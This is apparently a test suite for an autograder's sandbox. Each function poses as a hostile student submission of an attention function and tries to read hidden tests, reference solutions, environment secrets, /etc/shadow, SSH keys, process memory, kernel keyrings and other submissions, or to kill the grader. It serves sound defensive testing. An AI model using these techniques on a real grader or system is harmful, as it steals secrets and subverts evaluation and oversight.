"""Attacks on the grader through `attention`: looking for the hidden checks, the reference, secrets and other people's work.

What is looked for bears the word CANARY; what is found is printed, and the suite reads what was printed.
"""

import ctypes
import fcntl
import gc
import importlib
import inspect
import linecache
import os
import re
import signal
import socket
import stat
import struct
import sys
import tempfile

import torch

from grader.variants import hostile
from solutions.attention import seq2seq_attention

honest = seq2seq_attention
LOOT = re.compile("CANARY" + "-[0-9a-f]{8}")
libc = ctypes.CDLL(None, use_errno=True)


def channel():
    """The descriptor over which this process talks to the grader: the one socket that it holds."""
    return next(number for number in range(3, 64) if stat.S_ISSOCK(os.fstat(number).st_mode))


def show(text):
    """Print what looks like loot."""
    text = text if isinstance(text, str) else bytes(text).decode("latin-1")
    for found in LOOT.findall(text):
        print(found)


@hostile("hostile-steals-hidden-tests", replaces="softmax", verdict="error")
def steals_hidden_tests(x, dim):
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("lib", "lib64")]
        for name in files:
            if name.endswith((".py", ".db", ".toml", ".md")) or name == "secret":
                show(open(os.path.join(folder, name), "rb").read())
            if name in ("test_attention.py", "course.toml", "secret", "grades.db"):
                return torch.zeros_like(x)
    raise FileNotFoundError("no hidden tests in this file system")


@hostile("hostile-imports-the-grader", replaces="seq2seq_attention", verdict="error")
def imports_the_grader(decoder, encoder, lengths):
    found = []
    for name in (
        "grader",
        "grader.secret",
        "grader.sandbox.client",
        "solutions.attention",
        "tests.hidden.test_attention",
    ):
        try:
            found.append(importlib.import_module(name))
            show(inspect.getsource(found[-1]))
        except ImportError:
            pass
    if found:
        return None
    raise ModuleNotFoundError("no grader here")


@hostile("hostile-reads-proc", replaces="seq2seq_attention", verdict="error")
def reads_proc(decoder, encoder, lengths):
    """Command lines, environments, memory and descriptors of whoever can be seen."""
    for number in ["self", "thread-self", *range(1, 5000)]:
        for name in ("environ", "cmdline", "maps", "mem", "fd/3", "root/etc/passwd", "cwd/README.md"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    show(file.read(2**20))
                    return None
            except OSError:
                pass
    raise FileNotFoundError("nobody to be seen")


@hostile("hostile-reads-sys-and-dev", replaces="seq2seq_attention", verdict="error")
def reads_sys_and_dev(decoder, encoder, lengths):
    refused = None
    for path in (
        "/sys/kernel",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/tty",
        "/dev/shm/x",
        "/dev/fuse",
        "/etc/shadow",
        "/root/.ssh",
    ):
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return None
        except OSError as error:
            refused = error
    raise refused


@hostile("hostile-reads-its-environment", replaces="seq2seq_attention", verdict="failed")
def reads_its_environment(decoder, encoder, lengths):
    show(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.path) + repr(os.uname()))
    libc.getenv.restype = ctypes.c_char_p
    for name in (b"DOT2VIT_SECRET", b"HOSTILE_LOOT"):
        show(libc.getenv(name) or b"")
    environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for place in range(100):
        if not environment[place]:
            break
        show(environment[place])
    return None


@hostile("hostile-searches-the-heap", replaces="seq2seq_attention", verdict="failed")
def searches_the_heap(decoder, encoder, lengths):
    """Every string that the garbage collector can reach, also through the fork server's leftovers."""
    gc.unfreeze() if hasattr(gc, "unfreeze") else None
    seen = 0
    for found in gc.get_objects():
        for value in gc.get_referents(found):
            if isinstance(value, (str, bytes)) and seen < 300_000:
                seen += 1
                show(value)
    return None


@hostile("hostile-searches-raw-memory", replaces="seq2seq_attention", verdict="failed")
def searches_raw_memory(decoder, encoder, lengths):
    """Page by page: a pipe takes what is mapped and refuses the rest, without a crash."""
    libc.sbrk.restype = ctypes.c_void_p
    libc.sbrk.argtypes = [ctypes.c_ssize_t]
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    reader, writer = os.pipe()
    top = libc.sbrk(0) & ~4095
    for start in [*range(top - 2**26, top, 4096), *range(id(gc) & ~4095, (id(gc) & ~4095) + 2**22, 4096)]:
        if libc.write(writer, start, 4096) > 0:
            show(os.read(reader, 4096))
    return None


@hostile("hostile-reads-frames-and-caches", replaces="seq2seq_attention", verdict="failed")
def reads_frames_and_caches(decoder, encoder, lengths):
    frame = sys._getframe()
    while frame:
        show(repr(list(frame.f_locals)) + repr(list(frame.f_globals)))
        frame = frame.f_back
    for name, entry in linecache.cache.items():
        if name != "attention.py":
            show("".join(entry[2]) if len(entry) > 2 else "")
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] in ("inside", "grader", "tests", "solutions", "pytest", "__main__"):
            show(repr(vars(module)))
    return None


@hostile("hostile-reads-its-channel", replaces="seq2seq_attention", verdict="timeout")
def reads_its_channel(decoder, encoder, lengths):
    """There is nothing to read but requests, and none comes while one is open."""
    while True:
        show(os.read(channel(), 65536))


@hostile("hostile-reads-its-descriptors", replaces="seq2seq_attention", verdict="failed")
def reads_its_descriptors(decoder, encoder, lengths):
    for number in range(1024):
        try:
            os.set_blocking(number, False)
            show(os.read(number, 65536))
        except OSError:
            pass
        finally:
            try:
                os.set_blocking(number, True)
            except OSError:
                pass
    return None


@hostile("hostile-sends-descriptors", replaces="seq2seq_attention", verdict="error")
def sends_descriptors(decoder, encoder, lengths):
    """Its own, so that the grader runs out of them, and asks for the grader's."""
    with socket.socket(fileno=os.dup(channel())) as own:
        try:
            for _ in range(16):
                socket.send_fds(own, [b"\0\0\0\2\0\0\0\0{}"], [0, 1, 2])
        finally:
            socket.recv_fds(own, 1, 16)


@hostile("hostile-grader-by-its-socket", replaces="seq2seq_attention", verdict="error")
def grader_by_its_socket(decoder, encoder, lengths):
    """The kernel hands out a descriptor for the process at the other end of a socket."""
    with socket.socket(fileno=os.dup(channel())) as own:
        try:
            grader = own.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
        except OSError:
            grader = own.fileno()
    for request in range(0xFF01, 0xFF0B):  # PIDFD_GET_..._NAMESPACE
        try:
            libc.setns(fcntl.ioctl(grader, request), 0)
            return None
        except OSError:
            pass
    if libc.syscall(424, grader, signal.SIGKILL, None, 0) < 0:  # pidfd_send_signal
        raise PermissionError(ctypes.get_errno(), "pidfd_send_signal")


@hostile("hostile-neighbours-files", replaces="seq2seq_attention", verdict="error")
def neighbours_files(decoder, encoder, lengths):
    """What a neighbour or an earlier submission left; then something for the next to find."""
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/scratch", tempfile.gettempdir(), "."):
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            ours = name.startswith("mine") or sys.prefix.startswith(
                os.path.join(folder, name)
            )  # the interpreter's place
            if not ours:
                return None
    with open(os.path.join(tempfile.gettempdir(), "mine"), "w") as file:
        file.write("mine")
    raise FileNotFoundError("nobody was here")


@hostile("hostile-keeps-inputs", replaces="softmax", verdict="failed")
def keeps_inputs(x, dim):
    """Everything that any check asked, printed: the inputs are the student's to see, the answers are not among them."""
    sys.__dict__.setdefault("kept", []).append(x.detach().clone())
    show(repr(sys.__dict__["kept"][-1].shape))
    return sys.__dict__["kept"][0]


@hostile("hostile-dumps-core", replaces="seq2seq_attention", verdict="crashed")
def dumps_core(decoder, encoder, lengths):
    """Its memory, put somewhere for later."""
    import resource

    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError):
        pass
    os.chdir(tempfile.gettempdir())
    libc.prctl(4, 1, 0, 0, 0)
    os.abort()


@hostile("hostile-kernel-keys", replaces="seq2seq_attention", verdict="error")
def kernel_keys(decoder, encoder, lengths):
    """The keyrings of the user, where passwords of network file systems lie."""
    for number, *arguments in ((250, 0, -4, 1), (250, 11, -5, 0, 0), (249, b"user", b"x", None, 0)):
        if libc.syscall(number, *arguments) >= 0:
            return None
    raise PermissionError(ctypes.get_errno(), "keyctl")


@hostile("hostile-kernel-log", replaces="seq2seq_attention", verdict="error")
def kernel_log(decoder, encoder, lengths):
    buffer = ctypes.create_string_buffer(4096)
    if libc.klogctl(3, buffer, len(buffer)) < 0:
        raise PermissionError(ctypes.get_errno(), "klogctl")
    print(buffer.raw)


@hostile("hostile-memory-of-others", replaces="seq2seq_attention", verdict="error")
def memory_of_others(decoder, encoder, lengths):
    """Of its parent, of the fork server, of anybody: by number, since none can be listed."""
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack("QQ", ctypes.addressof(buffer), 64)
    for number in range(2, 3000):
        if libc.process_vm_readv(number, vector, 1, vector, 1, 0) > 0 or libc.ptrace(16, number, None, None) == 0:
            return None
    raise PermissionError(ctypes.get_errno(), "process_vm_readv, ptrace")
